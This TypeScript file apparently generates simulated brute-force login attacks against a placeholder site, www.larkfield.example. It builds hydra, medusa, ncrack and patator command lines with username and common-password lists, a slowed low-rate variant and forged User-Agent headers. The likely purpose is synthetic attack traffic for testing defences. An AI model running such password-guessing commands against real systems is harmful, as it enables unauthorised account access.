import { FORGED_AGENTS } from '../user-agents.ts';
import { type Prompt, SITE, SITE_ADDRESS, type Tool } from '../visit.ts';

const USERS = ['admin', 'root', 'administrator', 'ruth', 'tom', 'ines', 'webmaster', 'test', 'shop', 'info'];
const PASSWORDS = [
  'admin',
  'password',
  '123456',
  'letmein',
  'larkfield',
  'Larkfield1974',
  'seeds',
  'tomato1',
  'welcome',
  'qwerty',
  'changeme',
  'spring2025',
  'autumn2025',
  'secret',
  'master',
  'root',
  'toor',
  'iloveyou',
  'dragon',
  'monkey',
];
const REFUSAL = 'name or password is wrong';

interface Guesses {
  readonly users: string;
  readonly passwords: string;
}

function guesses({ file, some, between }: Prompt): Guesses {
  return { users: file(some(USERS, between(1, 4))), passwords: file(some(PASSWORDS, between(4, 16))) };
}

export const hydra: Tool = (prompt) => {
  const { users, passwords } = guesses(prompt);
  const service = prompt.pick([
    ['http-post-form', `/login:username=^USER^&password=^PASS^:${REFUSAL}`],
    ['http-post-form', `/login:username=^USER^&password=^PASS^:${REFUSAL}`],
    ['http-get', '/staff'],
    ['http-post-form', '/api/login:username=^USER^&password=^PASS^:invalid_credentials'],
  ]);
  return [
    {
      run: ['hydra', '-L', users, '-P', passwords, '-t', '4', '-I', 'www.larkfield.example', ...service],
    },
  ];
};

/** A guess every few seconds. */
export const slowHydra: Tool = (prompt) => {
  const passwords = prompt.file(prompt.some(PASSWORDS, 8));
  const form = `/login:username=^USER^&password=^PASS^:${REFUSAL}`;
  const run = ['hydra', '-l', 'admin', '-P', passwords, '-t', '1', '-c', '4', '-I', SITE_ADDRESS];
  return [{ run: [...run, 'http-post-form', form], seconds: 60 }];
};

export const medusa: Tool = (prompt) => {
  const { users, passwords } = guesses(prompt);
  const common = ['medusa', '-h', SITE_ADDRESS, '-U', users, '-P', passwords, '-t', '2', '-v', '1'];
  const agent = prompt.chance(0.3) ? ['-m', `USER-AGENT:"${prompt.pick(FORGED_AGENTS)}"`] : [];
  return prompt.chance(0.5)
    ? [{ run: [...common, '-M', 'http', '-m', 'DIR:/staff', ...agent] }]
    : [
        {
          run: [
            ...common,
            '-M',
            'web-form',
            '-m',
            'FORM:login',
            '-m',
            `DENY-SIGNAL:${REFUSAL}`,
            '-m',
            'FORM-DATA:post?username=&password=',
            ...agent,
          ],
        },
      ];
};

export const ncrack: Tool = (prompt) => {
  const { users, passwords } = guesses(prompt);
  const options = ['-m', 'http:path=/staff,CL=4', '-T4'];
  return [{ run: ['ncrack', '-U', users, '-P', passwords, ...options, `http://${SITE_ADDRESS}:80`] }];
};

export const patator: Tool = (prompt) => {
  const { users, passwords } = guesses(prompt);
  // Its libcurl refuses the empty `resolve` it gives otherwise.
  const resolve = `resolve=www.larkfield.example:${SITE_ADDRESS}`;
  const lists = [resolve, `0=${users}`, `1=${passwords}`, '-t', '4'];
  return prompt.chance(0.6)
    ? [
        {
          run: [
            'patator',
            'http_fuzz',
            `url=${SITE}/login`,
            'method=POST',
            'body=username=FILE0&password=FILE1',
            ...lists,
            '-x',
            `ignore:fgrep=${REFUSAL}`,
          ],
        },
      ]
    : [
        {
          run: [
            'patator',
            'http_fuzz',
            `url=${SITE}/staff`,
            'user_pass=FILE0:FILE1',
            ...lists,
            '-x',
            'ignore:code=401',
          ],
        },
      ];
};
